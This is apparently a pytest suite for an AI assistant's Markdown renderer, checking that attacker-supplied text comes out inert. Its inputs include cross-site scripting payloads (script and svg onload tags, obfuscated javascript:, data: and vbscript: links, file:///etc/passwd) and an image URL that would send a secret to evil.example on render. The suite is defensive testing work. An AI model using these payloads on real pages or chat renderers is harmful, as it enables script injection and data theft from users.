"""The Assistant's Markdown: attacker-controlled text renders inert, ordinary Markdown as expected.

Each test parses the HTML that render() returns and looks at the elements and attributes a
browser would build from it, not at substrings alone.
"""

from html.parser import HTMLParser

import pytest
from django.template import Context, Template
from django.utils.safestring import SafeString, mark_safe

from assistant import markdown
from assistant.markdown import render

SVG_PAYLOAD = '"><svg onload=alert(1)>'


class _Elements(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.text = ""

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, {name: value or "" for name, value in attrs}))

    def handle_data(self, data):
        self.text += data


def parse(html: str) -> _Elements:
    parser = _Elements()
    parser.feed(html)
    parser.close()
    return parser


def assert_inert(html: str) -> _Elements:
    """No element that runs or loads anything, no event handler, no link but http(s), mailto
    or a path on this site."""
    page = parse(html)
    for tag, attrs in page.elements:
        assert tag not in {"script", "svg", "img", "iframe", "object", "embed", "style"}, html
        assert not [name for name in attrs if name.startswith("on")], html
        assert "src" not in attrs, html
        href = attrs.get("href")
        if href is not None:
            assert href.startswith(("http://", "https://", "mailto:", "/", "?", "#")), html
            assert not href.startswith("//"), html
    return page


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("<script>alert(1)</script>", "<script>alert(1)</script>"),
        ("<img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)>"),
        ('<a href="https://evil.example">click</a>', '<a href="https://evil.example">click</a>'),
        ('<a href="javascript:alert(1)">x</a>', '<a href="javascript:alert(1)">x</a>'),
        ("foo <!-- hidden --> bar", "<!-- hidden -->"),
    ],
)
def test_raw_html_is_shown_as_text(text, shown):
    html = render(text)
    page = assert_inert(html)
    assert [tag for tag, _ in page.elements] == ["p"]
    assert shown in page.text


@pytest.mark.parametrize(
    "text",
    [
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](&#x6A;&#x61;vascript&colon;alert(1))",
        "[x](<java\tscript:alert(1)>)",
        "[x](  javascript:alert(1) )",
        "[x](vbscript:msgbox(1))",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[x](file:///etc/passwd)",
        "[x](//evil.example/phish)",
        "<javascript:alert(1)>",
        "<vbscript:msgbox(1)>",
        "[x][ref]\n\n[ref]: javascript:alert(1)",
    ],
)
def test_links_to_other_schemes_are_not_links(text):
    page = assert_inert(render(text))
    assert "a" not in [tag for tag, _ in page.elements]


@pytest.mark.parametrize(
    "text",
    [
        "![x](data:image/png;base64,iVBORw0KGgo=)",
        "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
        "![x](javascript:alert(1))",
    ],
)
def test_images_with_other_schemes_are_neither_images_nor_links(text):
    page = assert_inert(render(text))
    assert [tag for tag, _ in page.elements] == ["p"]


def test_an_image_never_loads_and_becomes_a_link_a_person_must_click():
    # ![](https://attacker/?secret) would send the secret the moment the answer renders.
    page = assert_inert(render("![the chart](https://evil.example/c.png?tags=secret)"))
    assert page.elements[1] == (
        "a",
        {"href": "https://evil.example/c.png?tags=secret", "rel": "noopener noreferrer nofollow"},
    )
    assert page.text.strip() == "the chart"


@pytest.mark.parametrize(
    "text",
    [
        f"| Key | Value |\n|---|---|\n| Owner | {SVG_PAYLOAD} |",
        f"[{SVG_PAYLOAD}](/o/acme/inventory/)",
        f"**{SVG_PAYLOAD}** and `{SVG_PAYLOAD}`",
        f"```sh\naws ec2 create-tags --tags Key=Owner,Value='{SVG_PAYLOAD}'\n```",
    ],
)
def test_a_tag_value_carrying_markup_stays_text_wherever_it_lands(text):
    html = render(text)
    page = assert_inert(html)
    assert "<svg" not in html and "&lt;svg onload=alert(1)&gt;" in html
    assert SVG_PAYLOAD in page.text


def test_markup_in_a_link_title_stays_inside_the_attribute():
    page = assert_inert(render(f"[x](/o/acme/ '{SVG_PAYLOAD}')"))
    assert page.elements[1] == ("a", {"href": "/o/acme/", "title": SVG_PAYLOAD})


def test_a_code_fence_language_that_is_not_a_word_is_dropped():
    page = assert_inert(render(f"```{SVG_PAYLOAD}\necho hi\n```"))
    assert page.elements == [("pre", {"data-copy": ""}), ("code", {})]
    assert page.text.strip() == "echo hi"


def test_the_sanitiser_alone_stops_markup_should_the_parser_let_it_through(monkeypatch):
    """Defence in depth: with the parser's raw HTML switched on by mistake, nh3 still strips
    every executable vector."""
    monkeypatch.setitem(markdown._parser.options, "html", True)
    html = render(
        '<script>alert(1)</script><img src=x onerror=alert(1)><a href="javascript:alert(1)">a</a>'
        '<a href="https://ok.example" onclick="alert(1)">ok</a><svg onload=alert(1)></svg>'
        "<p style=\"background:url('javascript:alert(1)')\">s</p>"
    )
    page = assert_inert(html)
    assert "alert" not in html
    assert not [attrs for tag, attrs in page.elements if "style" in attrs]


def test_ordinary_markdown_renders_as_a_person_expects():
    text = (
        "## Untagged resources\n\n"
        "Three instances lack **CostCenter**:\n\n"
        "1. `i-0abc`\n2. `i-0def`\n\n"
        "- see [the inventory](/o/acme/inventory/?tag=CostCenter&missing=1)\n"
        "- and the [AWS docs](https://docs.aws.amazon.com/tag-editor/)\n"
        "- or write to [ops](mailto:ops@acme.example)\n\n"
        "| Account | Missing |\n|:--|--:|\n| prod | 3 |\n"
    )
    page = assert_inert(render(text))
    tags = [tag for tag, _ in page.elements]
    for tag in ("h2", "strong", "ol", "ul", "li", "code", "table", "th", "td"):
        assert tag in tags, tag
    links = [attrs for tag, attrs in page.elements if tag == "a"]
    assert links == [
        {"href": "/o/acme/inventory/?tag=CostCenter&missing=1"},
        {"href": "https://docs.aws.amazon.com/tag-editor/", "rel": "noopener noreferrer nofollow"},
        {"href": "mailto:ops@acme.example"},
    ]
    assert ("td", {"style": "text-align:right"}) in page.elements
    assert "Three instances lack CostCenter:" in page.text


def test_autolinks_to_the_web_are_links_with_rel():
    page = assert_inert(render("Docs: <https://example.com/a?b=1&c=2>"))
    assert page.elements[1] == (
        "a",
        {"href": "https://example.com/a?b=1&c=2", "rel": "noopener noreferrer nofollow"},
    )


def test_a_proposed_command_is_a_code_block_with_the_copy_hook_and_is_never_run():
    html = render(
        "Run:\n\n```bash\naws ec2 create-tags --resources i-0abc --tags 'Key=A,Value=<b>'\n```"
    )
    page = assert_inert(html)
    assert ("pre", {"data-copy": ""}) in page.elements
    assert ("code", {"class": "language-bash"}) in page.elements
    assert "aws ec2 create-tags --resources i-0abc --tags 'Key=A,Value=<b>'" in page.text
    assert "b" not in [tag for tag, _ in page.elements]


def test_an_indented_code_block_gets_the_copy_hook_too():
    page = assert_inert(render("Run:\n\n    make test\n"))
    assert ("pre", {"data-copy": ""}) in page.elements
    assert "make test" in page.text


@pytest.mark.parametrize(
    "partial",
    [
        "Here is the fix:\n\n```sh\naws ec2 create-tags --tags Key=Owner,Val",
        "See [the inventory](/o/acme/inv",
        "See [the inven",
        "Careful: <scr",
        "Careful: <img src=x oner",
        "[x](javascript:al",
        "| a | b |\n|---|",
        "**bold and `code",
    ],
)
def test_a_partial_answer_renders_inert_and_complete(partial):
    html = render(partial)
    assert_inert(html)
    assert html.count("<pre") == html.count("</pre>")
    assert html.count("<code") == html.count("</code>")


def test_an_unclosed_fence_shows_the_command_so_far():
    page = parse(render("Here:\n\n```sh\naws s3api put-bucket-tagging --bucket b"))
    assert ("pre", {"data-copy": ""}) in page.elements
    assert "aws s3api put-bucket-tagging --bucket b" in page.text


def test_render_returns_a_safe_string_and_accepts_empty_text():
    assert isinstance(render("hi"), SafeString)
    assert render("") == ""


def test_template_filter_renders_untrusted_text_even_when_marked_safe():
    template = Template("{% load assistant_markdown %}<div>{{ answer|markdown }}</div>")
    for answer in ("**hi** <script>x</script>", mark_safe("**hi** <script>x</script>")):  # noqa: S308
        html = template.render(Context({"answer": answer}))
        assert html == "<div><p><strong>hi</strong> &lt;script&gt;x&lt;/script&gt;</p>\n</div>"
    assert template.render(Context({"answer": None})) == "<div></div>"
